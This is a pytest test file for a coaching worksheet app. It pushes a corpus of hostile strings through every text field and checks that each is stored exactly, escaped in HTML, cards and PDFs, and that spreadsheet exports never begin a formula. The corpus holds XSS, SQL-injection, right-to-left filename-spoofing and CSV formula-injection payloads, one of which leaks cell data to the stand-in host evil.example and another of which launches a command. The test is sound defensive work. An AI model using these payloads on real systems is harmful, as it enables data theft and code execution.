"""A corpus of hostile text through every text field of every worksheet.

Each string is stored exactly (or refused with a clear message when it is too long for its box), and is
escaped on every page, card and PDF; spreadsheet exports never let a cell start a formula. Hostile
worksheet *files* (the coach's side) are in ``hostile_files.py``, run by ``test_hostile_files.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
from html import escape

import pytest
from pypdf import PdfReader

from coachkit.card import Card, card_html, card_pdf, printable_page
from coachkit.exercises import WORKSHEETS
from coachkit.store import Store
from coachkit.ui import markup
from coachkit.worksheet import AnswerError, ShortText, check_step, is_shown

HOSTILE = {
    "script": "<script>alert('x')</script>",
    "event_handler": '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">hi</a>',
    "entities": "&amp; &lt;b&gt; &#x3C;script&#x3E; &quot;",
    "quotes": "'\" ` \\ ' OR '1'='1",
    "control_and_nul": "before\x00after \x01\x07\x1b[31m red",
    "rtl_override": "invoice\u202egnp.exe \u2066isolate\u2069",
    "emoji": "😊💔👨‍👩‍👧 ✨",
    "sql": "'); DROP TABLE answers; --",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "formula_plus": "+1+2",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "newlines": "line one\nline two\r\nline three",
    "very_long": "long " * 20_000,
}
RAW_MARKUP = ("<script", "<img", "<a href", 'javascript:alert(2)">')

TEXT_FIELDS = [
    pytest.param(sheet, step, item, id=f"{sheet.id}.{item.id}")
    for sheet in WORKSHEETS.values()
    for step in sheet.steps
    for item in step.fields
    if isinstance(item, ShortText)
]


@pytest.fixture
def store(tmp_path) -> Store:
    opened = Store(f"sqlite:///{tmp_path}/hostile.sqlite")
    yield opened
    opened.close()


def cleaned_or_refused(item: ShortText, text: str) -> str | None:
    """The value the server would store, or None when it refuses it with a message."""
    try:
        return item.clean(text)
    except AnswerError as refusal:
        assert len(text) > item.max_length
        assert "characters" in str(refusal) and "shorten" in str(refusal)
        return None


@pytest.mark.parametrize(("sheet", "step", "item"), TEXT_FIELDS)
def test_every_text_field_stores_hostile_text_exactly_or_refuses_it_plainly(store, sheet, step, item):
    client = store.add_client("Hostile Corpus")
    response = store.start_response(client.id, sheet.id, sheet.version)
    for name, text in HOSTILE.items():
        value = cleaned_or_refused(item, text)
        if value is None:
            continue
        assert value == text, name
        store.save_step(response.id, step.id, {item.id: value}, current_step=0)
        assert store.get_answers(response.id)[item.id] == text, name


def answers_showing(sheet, step, item) -> dict:
    """Earlier answers under which the field and its step are shown (tried over the choices they read)."""
    read = sorted(
        (step.shown_if.fields() if step.shown_if else set())
        | (item.shown_if.fields() if item.shown_if else set())
    )
    choices = []
    for field_id in read:
        try:
            field = sheet.field(field_id)
        except KeyError:  # a field carried from another worksheet
            field = None
        options = [option.value for option in getattr(field, "options", ())] or [True, False]
        choices.append([*options, None])
    for values in itertools.product(*choices):
        answers = dict(zip(read, values, strict=True))
        if is_shown(step, answers) and is_shown(item, answers):
            return answers
    raise AssertionError(f"no answers show {item.id}")


@pytest.mark.parametrize(("sheet", "step", "item"), TEXT_FIELDS)
def test_every_text_field_is_escaped_on_the_summary_page(sheet, step, item):
    for name, text in HOSTILE.items():
        if len(text) > item.max_length:
            continue
        answers = {**answers_showing(sheet, step, item), item.id: text}
        checked = check_step(step, answers, answers)
        assert checked.clean[item.id] == text, name
        page = markup.summary(sheet, answers, sheet.feedback(answers), {"safety_help": text})
        assert escape(text) in page, name
        assert not any(raw in page for raw in RAW_MARKUP), name


CARD_SHEETS = [sheet for sheet in WORKSHEETS.values() if sheet.takeaway is not None]


@pytest.mark.parametrize("sheet", CARD_SHEETS, ids=lambda sheet: sheet.id)
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_cards_escape_hostile_text_in_html_and_write_it_as_text_in_one_page_pdfs(sheet, name):
    text_fields = [item for _, item in sheet.all_fields() if isinstance(item, ShortText)]
    answers = {item.id: HOSTILE[name][: item.max_length] for item in text_fields}
    answers.update({"calm_action": "own", "back_how": "agree"})
    card = Card(
        sheet.takeaway.title, "<b>Sam</b>", dt.date(2026, 11, 26), tuple(sheet.takeaway.lines(answers))
    )
    for html in (card_html(card), printable_page(card)):
        assert not any(raw in html for raw in RAW_MARKUP)
        assert "&lt;b&gt;Sam&lt;/b&gt;" in html
    pdf = PdfReader(io.BytesIO(card_pdf(card)))
    assert len(pdf.pages) == 1
    assert "Sam" in pdf.pages[0].extract_text()


def test_spreadsheet_exports_never_start_a_formula(store):
    from coachkit.coach import exports

    sheet = WORKSHEETS["fight-or-make-it-right"]
    client = store.add_client('=HYPERLINK("http://evil.example","x")')
    response = store.start_response(client.id, sheet.id, sheet.version)
    formulas = [HOSTILE[key] for key in ("formula", "formula_plus", "formula_at")] + ["-1", "\t=1", "\r=1"]
    for index, text in enumerate(formulas):
        store.save_step(
            response.id, "how_often", {"recent_fight": text, "making_it_right": text}, current_step=4
        )
        for name, frame in exports.tables(store, client.id).items():
            text_ = exports.csv_bytes(frame).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text_, newline="")))
            cells = [cell for row in rows[1:] for cell in row]
            assert not any(cell[:1] in "=+-@\t\r" and cell[:1] for cell in cells), (name, index)
